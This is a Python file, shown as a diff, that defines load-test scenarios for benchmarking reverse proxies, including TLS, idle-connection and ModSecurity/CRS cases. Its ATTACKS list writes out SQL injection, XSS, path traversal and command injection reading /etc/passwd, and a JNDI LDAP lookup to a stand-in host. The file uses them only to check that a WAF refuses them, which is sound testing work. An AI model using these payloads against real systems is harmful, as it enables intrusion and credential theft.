@@ -1,0 +1,93 @@
+"""The scenarios: one row each. A row says what the clients send, what the proxies are told beyond the common
+configuration, and which goal the result is held against."""
+
+import json
+from dataclasses import dataclass, field
+
+HOST = "bench.example"  # a name, not an address: CRS 920350 would make each request to an address suspicious
+
+BROWSER = {
+    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
+    "Accept-Language": "en-US,en;q=0.5",
+    "Accept-Encoding": "gzip, deflate, br",
+    "Referer": f"http://{HOST}/shop/shoes",
+    "Cookie": "sid=7f3a9c2e51b84d06a1f2; theme=dark; lang=en; cart=3-17-204",
+    "Connection": "keep-alive",
+    "Upgrade-Insecure-Requests": "1",
+}
+BROWSER_PATH = "/shop/item?id=42&lang=en&page=3&sort=price&q=blue+running+shoes"
+FORM = "name=Ada+Lovelace&street=12+St+James+Square&city=London&country=GB&comment=Please+ring+twice&newsletter=1"
+DOCUMENT = json.dumps({"order": 4711, "items": [{"sku": "A-17", "count": 2}, {"sku": "B-3", "count": 1}],
+                       "customer": {"name": "Ada Lovelace", "city": "London"}, "gift": False})
+ATTACKS = [
+    "/item?id=1%27%20or%20%271%27%3D%271",
+    "/item?id=1%20union%20select%20user%2Cpassword%20from%20users",
+    "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    "/file?name=..%2F..%2F..%2Fetc%2Fpasswd",
+    "/run?cmd=%3Bcat%20%2Fetc%2Fpasswd",
+    "/item?id=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
+]
+
+
+@dataclass(frozen=True)
+class Scenario:
+    name: str
+    what: str
+    kind: str = "http"  # http: wrk; handshake: tls_client.py; idle: connections held open; half_load: wrk at half the rate
+    paths: tuple[str, ...] = ("/",)
+    method: str = "GET"
+    headers: dict[str, str] = field(default_factory=dict)
+    body: str = ""
+    body_bytes: int = 0  # instead of `body`: that many letters
+    connections: int = 32
+    status: int = 200
+    tls: str = ""  # "ecdsa" or "rsa": clients connect with TLS 1.3
+    routes: int = 0
+    access_log: bool = False
+    waf: bool = False
+    resume: bool = False
+    goal: float | None = None  # highest ratio to the better of nginx and HAProxy
+    proxies: tuple[str, ...] = ("gatehouse", "nginx", "haproxy")
+
+
+WAF = ("gatehouse", "nginx")  # HAProxy has no ModSecurity inside
+FORM_FIELDS = {**BROWSER, "Content-Type": "application/x-www-form-urlencoded"}
+JSON_FIELDS = {**BROWSER, "Content-Type": "application/json"}
+
+SCENARIOS = [
+    Scenario("get_small", "keep-alive GET, 34 bytes back", goal=0.80),
+    Scenario("get_browser", "keep-alive GET with a browser's 9 fields, 5 arguments, 4 cookies", paths=(BROWSER_PATH,),
+             headers=BROWSER, goal=0.80),
+    Scenario("get_10k", "response of 10 KB", paths=("/10k",), goal=0.90),
+    Scenario("get_100k", "response of 100 KB", paths=("/100k",), goal=0.90),
+    Scenario("get_10m", "response of 10 MB", paths=("/10m",), connections=4, goal=0.90),
+    Scenario("post_1k", "request body of 1 KB", method="POST", body_bytes=1024, goal=0.90),
+    Scenario("post_100k", "request body of 100 KB", method="POST", body_bytes=102400, goal=0.90),
+    Scenario("post_10m", "request body of 10 MB", method="POST", body_bytes=10 << 20, connections=4, goal=0.90),
+    Scenario("new_connection", "a new client connection for each GET", headers={"Connection": "close"}, goal=0.95),
+    Scenario("tls_get", "keep-alive GET over TLS 1.3", tls="ecdsa", goal=0.85),
+    Scenario("tls_handshake_full", "TLS 1.3, ECDSA P-256, full handshake and a GET for each connection",
+             kind="handshake", tls="ecdsa", goal=0.95),
+    Scenario("tls_handshake_rsa", "the same with RSA 2048", kind="handshake", tls="rsa", goal=0.95),
+    Scenario("tls_handshake_resumed", "TLS 1.3, resumed with a ticket, and a GET for each connection",
+             kind="handshake", tls="ecdsa", resume=True, goal=0.95),
+    Scenario("routes_10000", "GETs spread over 10,000 locations", paths=tuple(f"/r{i:05}/x" for i in range(0, 10000, 7)),
+             routes=10000),
+    Scenario("half_load", "latency of small GETs at half the slowest proxy's rate", kind="half_load", connections=64,
+             goal=1.0),
+    Scenario("idle_plain", "memory of an idle keep-alive connection", kind="idle", connections=2000, goal=1.0),
+    Scenario("idle_tls", "memory of an idle keep-alive TLS connection", kind="idle", connections=2000, tls="ecdsa",
+             goal=1.0),
+    Scenario("access_log_off", "get_browser again, as the base of the next", paths=(BROWSER_PATH,), headers=BROWSER),
+    Scenario("access_log_on", "get_browser with an access log", paths=(BROWSER_PATH,), headers=BROWSER, access_log=True),
+    Scenario("waf_off", "get_browser, as the base of the next", paths=(BROWSER_PATH,), headers=BROWSER, proxies=WAF),
+    Scenario("waf_get", "get_browser through ModSecurity and the CRS", paths=(BROWSER_PATH,), headers=BROWSER, waf=True,
+             proxies=WAF),
+    Scenario("waf_form", "POST of a form through the CRS", method="POST", headers=FORM_FIELDS, body=FORM, waf=True,
+             proxies=WAF),
+    Scenario("waf_json", "POST of JSON through the CRS", method="POST", headers=JSON_FIELDS, body=DOCUMENT, waf=True,
+             proxies=WAF),
+    Scenario("waf_attacks", "six kinds of attack, each refused with 403", paths=tuple(ATTACKS), headers=BROWSER, waf=True,
+             status=403, proxies=WAF),
+]
